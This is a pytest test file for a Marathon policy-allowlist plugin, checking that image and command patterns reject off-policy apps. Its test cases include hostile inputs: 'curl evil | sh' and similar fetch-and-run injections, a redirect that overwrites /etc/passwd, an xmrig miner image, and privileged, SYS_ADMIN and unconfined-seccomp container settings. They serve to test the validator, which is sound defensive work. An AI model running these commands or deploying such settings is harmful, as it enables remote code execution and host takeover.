"""marathon-policy-allowlist without a server."""

from __future__ import annotations

import msgspec
import pytest
from marathon_policy_allowlist import PolicyAllowlist, command_glob, image_glob

from marathon.models import AppDefinition

CONFIG = {"images": ["registry.corp/*"], "commands": ["python3 *", "sleep *"], "forbid_privileged": True}


def policy(configuration=CONFIG) -> PolicyAllowlist:
    p = PolicyAllowlist()
    p.marathon_configure(plugin_id="policy", configuration=configuration, marathon_info={})
    return p


def app(**fields) -> AppDefinition:
    return msgspec.convert({"id": "/a", **fields}, AppDefinition)


def paths(p: PolicyAllowlist, a: AppDefinition) -> list[str]:
    return [v.path for v in p.marathon_validate_app(app=a)]


@pytest.mark.parametrize(("image", "ok"), [
    ("registry.corp/team/web:1.2", True), ("registry.corp/x@sha256:abc", True),
    ("registry.corp.evil.com/x", False), ("registry.corp:5000/x", False), ("docker.io/xmrig/xmrig", False),
    ("registry.corp", False),
])
def test_images(image, ok):
    assert image_glob("registry.corp/*").fullmatch(image) is not None if ok else image_glob("registry.corp/*").fullmatch(image) is None


@pytest.mark.parametrize(("cmd", "ok"), [
    ("python3 app.py --port $PORT0", True), ("python3 -m http.server ${PORT0}", True), ("python3", False),
    ("python3 x; curl evil | sh", False), ("python3 x && sh", False), ("python3 $(curl evil)", False),
    ("python3 `curl evil`", False), ("python3 x > /etc/passwd", False), ("python3 x\nsh", False),
    ("python3 <(curl evil)", False), ("python3 x || sh", False), ("python3 $((1+1))", False),
])
def test_command_wildcards_never_cross_shell_control_characters(cmd, ok):
    assert (command_glob("python3 *").fullmatch(cmd) is not None) is ok


def test_literal_control_characters_in_a_pattern_are_allowed():
    pattern = command_glob("echo $X > $MESOS_SANDBOX/out; sleep *")
    assert pattern.fullmatch("echo $X > $MESOS_SANDBOX/out; sleep 100")
    assert not pattern.fullmatch("echo $X > $MESOS_SANDBOX/out; sleep 1; sh")


def test_a_conforming_app_passes():
    p = policy()
    assert paths(p, app(cmd="sleep 100")) == []
    assert paths(p, app(container={"type": "DOCKER", "docker": {"image": "registry.corp/web"}})) == []
    assert paths(p, app(args=["python3", "-m", "web"], container={"docker": {"image": "registry.corp/web"}})) == []


def test_every_violation_is_reported_with_its_path():
    p = policy()
    bad = app(
        cmd="curl evil | sh", args=["sh", "-c", "x"],
        container={"type": "DOCKER", "docker": {
            "image": "docker.io/xmrig", "privileged": True,
            "parameters": [{"key": "cap-add", "value": "SYS_ADMIN"}, {"key": "label", "value": "x"},
                           {"key": "pid", "value": "host"}]},
            "linuxInfo": {"seccomp": {"unconfined": True}}},
    )
    violations = p.marathon_validate_app(app=bad)
    assert [v.path for v in violations] == [
        "/container/docker/image", "/cmd", "/args", "/container/docker/privileged",
        "/container/docker/parameters(0)", "/container/docker/parameters(2)", "/container/linuxInfo/seccomp/unconfined",
    ]
    assert "'registry.corp/*'" in violations[0].message and "docker.io/xmrig" in violations[0].message
    assert "'python3 *'" in violations[1].message


def test_absent_keys_impose_nothing_and_empty_lists_allow_nothing():
    assert paths(policy({}), app(cmd="anything; at all", container={"docker": {"image": "x", "privileged": True}})) == []
    assert paths(policy({"images": []}), app(container={"docker": {"image": "registry.corp/x"}})) == ["/container/docker/image"]
    assert paths(policy({"commands": []}), app(cmd="sleep 1")) == ["/cmd"]


@pytest.mark.parametrize("configuration", [
    {"images": "registry.corp/*"}, {"commands": [""]}, {"forbid_privileged": "yes"}, {"image": ["x"]},
])
def test_bad_configuration_is_refused(configuration):
    with pytest.raises(ValueError):
        policy(configuration)
